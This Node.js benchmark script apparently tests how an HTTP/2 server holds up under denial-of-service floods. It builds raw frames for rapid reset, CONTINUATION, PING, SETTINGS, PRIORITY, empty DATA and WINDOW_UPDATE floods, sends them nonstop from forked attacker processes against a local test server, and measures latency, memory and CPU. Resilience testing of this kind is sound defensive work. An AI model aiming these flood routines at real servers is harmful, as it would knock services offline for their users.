/**
 * Clients of HTTP/2 that do much of what costs them nothing: what another client waits, and what the worker's memory comes to.
 *
 *   node bench/h2-floods.mjs [FLOOD…] [--seconds N] [--attackers N] [--cli PATH]
 */

import { fork, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { connect as connectHttp2 } from 'node:http2';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createInterface } from 'node:readline';
import { text } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import { cpuMs, forgetPeak, residentBytes } from './lib/processes.mjs';
import { printMachine, printTable } from './lib/report.mjs';

const frame = (type, flags, stream, payload = Buffer.alloc(0)) => {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
};
// GET / with :authority of one letter, by the static table.
const block = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x68]);
const times = (count, each) => Buffer.concat(Array.from({ length: count }, (_, at) => each(at)));
const code = Buffer.from([0, 0, 0, 8]);

/** What each sends again and again; `at` counts the streams of a connection. */
const floods = {
  none: undefined,
  'rapid reset': (at) =>
    times(50, (n) => Buffer.concat([frame(1, 5, (at + n) * 2 + 1, block), frame(3, 0, (at + n) * 2 + 1, code)])),
  CONTINUATION: (at) =>
    at === 0 ? frame(1, 1, 1, block) : times(50, () => frame(9, 0, 1, Buffer.from([0, 1, 0x61, 1, 0x62]))),
  PING: () => times(50, () => frame(6, 0, 0, Buffer.alloc(8))),
  SETTINGS: () => times(50, () => frame(4, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
  PRIORITY: () => times(50, () => frame(2, 0, 1, Buffer.alloc(5))),
  'empty DATA': (at) =>
    at === 0
      ? frame(1, 4, 1, Buffer.concat([Buffer.from([0x83, 0x86, 0x84, 0x41, 1, 0x68])]))
      : times(50, () => frame(0, 0, 1)),
  WINDOW_UPDATE: () => times(50, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))),
};

const { values, positionals } = parseArgs({
  allowPositionals: true,
  options: {
    seconds: { type: 'string', default: '5' },
    attackers: { type: 'string', default: '4' },
    cli: { type: 'string', default: fileURLToPath(new URL('../dist/cli.js', import.meta.url)) },
    attack: { type: 'string' },
    port: { type: 'string' },
  },
});

/** In a process of its own: as fast as the server takes it, and anew when it is sent away. */
function attack(port, make) {
  const begin = () => {
    const socket = connect({ port, host: '127.0.0.1' });
    let at = 0;
    const send = () => {
      while (!socket.destroyed && socket.writable) {
        const bytes = make(at);
        at += 50;
        if (!socket.write(bytes)) break;
      }
    };
    socket.on('connect', () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
      socket.write(frame(4, 0, 0));
      send();
    });
    socket.on('drain', () => setImmediate(send));
    socket.resume();
    socket.on('error', () => {});
    socket.on('close', () => setTimeout(begin, 1));
  };
  for (let count = 0; count < Number(values.attackers); count++) begin();
}

async function measure(port, ms) {
  const waits = [];
  let failed = 0;
  const session = connectHttp2(`http://127.0.0.1:${port}`);
  session.on('error', (error) => console.log(String(error)));
  session.on('goaway', (code) => console.log(`GOAWAY ${code}`));
  for (const end = Date.now() + ms; Date.now() < end && !session.destroyed; await sleep(5)) {
    const began = performance.now();
    const stream = session.request({ ':path': '/' });
    await once(stream, 'response')
      .then(() => text(stream))
      .then(
        () => waits.push(performance.now() - began),
        () => failed++,
      );
  }
  session.destroy();
  waits.sort((a, b) => a - b);
  const at = (share) => waits[Math.min(waits.length - 1, Math.floor(waits.length * share))] ?? Number.NaN;
  return { count: waits.length, failed, p50: at(0.5), p99: at(0.99) };
}

async function main() {
  const folder = mkdtempSync(join(tmpdir(), 'tsgun-bench-'));
  writeFileSync(join(folder, 'app.mjs'), "export default (req, res) => { res.end('hello'); };\n");
  const rows = [['flood', 'p50 of another client', 'p99', 'answered', 'failed', 'most memory', 'CPU of the server']];
  const names = positionals.length > 0 ? positionals : Object.keys(floods);
  for (const name of names) {
    const args = [join(folder, 'app.mjs'), '--interface', 'node', '-b', '127.0.0.1:0', '--http', 'h1,h2c'];
    const child = spawn(process.execPath, [values.cli, ...args], {
      stdio: ['ignore', 'ignore', 'pipe'],
      env: { ...process.env, TSGUN_LOG_FORMAT: 'json' },
    });
    const log = [];
    createInterface({ input: child.stderr }).on('line', (line) => log.push(JSON.parse(line)));
    while (!log.some(({ event }) => event === 'listening')) await sleep(20);
    const port = Number(new URL(log.find(({ event }) => event === 'listening').url).port);
    const { pid } = log.find(({ event }) => event === 'worker_ready');
    await measure(port, 1000);
    forgetPeak(pid);
    const attacker =
      floods[name] === undefined
        ? undefined
        : fork(fileURLToPath(import.meta.url), [
            '--attack',
            name,
            '--port',
            String(port),
            '--attackers',
            values.attackers,
          ]);
    await sleep(300);
    const before = cpuMs(child.pid);
    const { count, failed, p50, p99 } = await measure(port, Number(values.seconds) * 1000);
    const cpu = (cpuMs(child.pid) - before) / (Number(values.seconds) * 10);
    attacker?.kill();
    const memory = residentBytes(pid, 'VmHWM') / 2 ** 20;
    rows.push([
      name,
      `${p50.toFixed(1)} ms`,
      `${p99.toFixed(1)} ms`,
      String(count),
      String(failed),
      `${memory.toFixed(0)} MiB`,
      `${cpu.toFixed(0)} %`,
    ]);
    const exited = log.filter(({ event }) => event === 'worker_exited').length;
    if (exited > 0) console.log(`${name}: ${exited} workers ended`);
    child.kill('SIGTERM');
    await once(child, 'exit');
  }
  printMachine();
  printTable(rows);
  rmSync(folder, { recursive: true });
}

if (values.attack === undefined) await main();
else attack(Number(values.port), floods[values.attack]);
